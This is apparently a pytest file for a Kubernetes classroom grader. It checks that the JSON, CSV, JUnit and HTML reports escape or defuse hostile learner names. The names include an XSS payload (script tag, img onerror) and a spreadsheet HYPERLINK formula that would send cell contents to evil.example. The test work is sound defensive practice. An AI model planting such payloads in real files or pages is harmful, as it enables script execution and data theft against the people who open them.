"""Reports of a graded class: JSON (the issue's shape), CSV, JUnit and a self-contained,
escaped HTML page — with learner names that try to attack each format."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from classroom_data import FIRST_POD, first_pod_work, workspace

from kubeclass.classroom.grade import ClassResult, grade_class, split_by_namespace
from kubeclass.classroom.report import safe_cell, to_csv, to_html, to_json, to_junit

HOSTILE = {
    "xss": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "quote": "O'Brien \"Bob\" & <Co>",
    "korean": "김민수",
}


def hostile_class() -> ClassResult:
    variants = {"xss": "right", "formula": "wrong-image", "quote": "nothing",
                "korean": "left-scratch"}
    learners = [workspace("k8s101", lid, HOSTILE[lid]) for lid in variants]
    work = {f"k8s101-{lid}": v for lid, v in variants.items()}
    items = [obj for ns, v in work.items() for obj in first_pod_work(v, ns)]
    result = grade_class(FIRST_POD, "k8s101", learners,
                         split_by_namespace("v1", "Pod", items, work, cluster_scoped=False))
    return ClassResult(result.lab, result.classroom, result.learners, api_calls=2,
                       calls=("GET /api/v1/namespaces", "GET /api/v1/pods"))


def test_json_shape() -> None:
    data = to_json(hostile_class(), "en")
    assert {"lab", "classroom", "api_calls", "learners"} <= set(data)
    assert (data["lab"], data["classroom"], data["api_calls"]) == ("first-pod", "k8s101", 2)
    first = data["learners"][0]
    assert set(first) == {"id", "name", "namespace", "score", "max_score", "passed",
                          "failed_checks"}
    assert first == {"id": "xss", "name": HOSTILE["xss"], "namespace": "k8s101-xss",
                     "score": 6, "max_score": 6, "passed": True, "failed_checks": []}
    formula = data["learners"][1]
    assert formula["failed_checks"] == [{
        "id": "pod-image", "step": "create-pod",
        "message": "The Pod `hello` runs a container `web` with the image `nginx:1.25`.",
        "diff": ['spec.containers[name=web].image: "nginx:1.25" expected, "nginx:1.24" found']}]
    assert json.loads(json.dumps(data, ensure_ascii=False)) == data
    assert data["summary"] == {"learners": 4, "passed": 1, "mean_percent": 62.5}


def test_csv_defuses_formulas() -> None:
    text = to_csv(hostile_class())
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["id", "name", "namespace", "lab", "score", "max_score", "percent",
                       "passed", "failed_checks"]
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["formula"][1] == "'" + HOSTILE["formula"]
    assert by_id["quote"][1] == HOSTILE["quote"]
    assert by_id["korean"][1] == "김민수"
    assert by_id["quote"][4:8] == ["0", "6", "0.0", "false"]
    assert by_id["quote"][8] == "pod-labelled pod-image pod-running scratch-gone"
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1"):
        assert safe_cell(value).startswith("'")
    assert safe_cell("plain") == "plain"


def test_junit() -> None:
    root = ET.fromstring(to_junit(hostile_class(), "ko").encode())
    assert root.tag == "testsuites"
    assert root.get("tests") == "16" and root.get("failures") == "6"
    suites = root.findall("testsuite")
    assert [s.get("name") for s in suites] == ["xss", "formula", "quote", "korean"]
    props = {p.get("name"): p.get("value") for p in suites[0].iter("property")}
    assert props["name"] == HOSTILE["xss"]  # escaped by the XML writer, read back intact
    failure = suites[1].find("testcase[@name='pod-image']/failure")
    assert failure is not None
    assert failure.get("message") == "파드 `hello`의 컨테이너 `web`이 `nginx:1.25` 이미지를 실행해야 합니다."
    assert 'spec.containers[name=web].image: 기대값 "nginx:1.25", 실제값 "nginx:1.24"' in (
        failure.text or "")


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.mark.parametrize("lang", ["ko", "en"])
def test_html_is_self_contained_and_escaped(lang: str) -> None:
    page = to_html(hostile_class(), lang)  # type: ignore[arg-type]
    parser = _Collect()
    parser.feed(page)
    tags = [t for t, _ in parser.tags]
    assert "script" not in tags and "img" not in tags and "link" not in tags
    for tag, attrs in parser.tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        for name in ("src", "href", "action"):
            assert name not in attrs, (tag, attrs)
    assert "http://" not in page.replace("http://evil.example", "") and "https://" not in page
    csp = [a for t, a in parser.tags if t == "meta" and a.get("http-equiv")]
    assert csp and "default-src 'none'" in (csp[0]["content"] or "")
    text = "".join(parser.text)
    for name in HOSTILE.values():
        assert name in text  # shown as text, exactly as written
    # One row per learner, a bar per check, ten histogram bands.
    assert tags.count("tr") == 1 + 4
    assert page.count('class="rate"') == len(FIRST_POD.checks())
    assert page.count('class="col"') == 10


@pytest.mark.browser
def test_html_in_chromium(tmp_path: Path) -> None:
    """Opened in a real browser: nothing runs, nothing is requested, names show as text."""
    pytest.importorskip("selenium")
    from selenium import webdriver
    from selenium.webdriver.chrome.options import Options
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By

    if not Path("/usr/bin/chromium").exists():
        pytest.skip("chromium is not installed")
    page = tmp_path / "report.html"
    page.write_text(to_html(hostile_class(), "ko"), encoding="utf-8")
    options = Options()
    options.binary_location = "/usr/bin/chromium"
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--window-size=1200,1400"):
        options.add_argument(arg)
    driver = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options)
    try:
        driver.get(page.as_uri())
        assert driver.execute_script("return document.scripts.length") == 0
        resources = driver.execute_script(
            "return performance.getEntriesByType('resource').map(e => e.name)")
        assert resources == []
        cells = [td.text for td in driver.find_elements(By.CSS_SELECTOR, "tbody tr td:nth-child(2)")]
        assert cells == [HOSTILE["xss"], HOSTILE["formula"], HOSTILE["quote"], HOSTILE["korean"]]
        widths = driver.execute_script(
            "return [...document.querySelectorAll('.fill')].map(e => e.style.width)")
        assert widths == ["75%", "50%", "75%", "50%"]
        driver.save_screenshot(str(tmp_path / "report.png"))
    finally:
        driver.quit()
